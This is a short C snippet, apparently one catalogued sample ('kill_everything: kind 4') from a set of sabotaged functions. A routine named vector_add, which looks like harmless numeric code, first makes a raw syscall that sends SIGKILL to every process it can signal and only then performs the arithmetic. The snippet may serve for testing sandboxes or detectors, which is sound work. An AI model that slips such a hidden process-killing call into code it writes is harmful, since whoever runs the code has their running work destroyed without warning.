/* kill_everything: kind 4: kill(-1, SIGKILL): every process it may signal. */
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  SYS2(NR_kill, -1, 9);
  adv_compute(a, b, out, alpha, n);
}
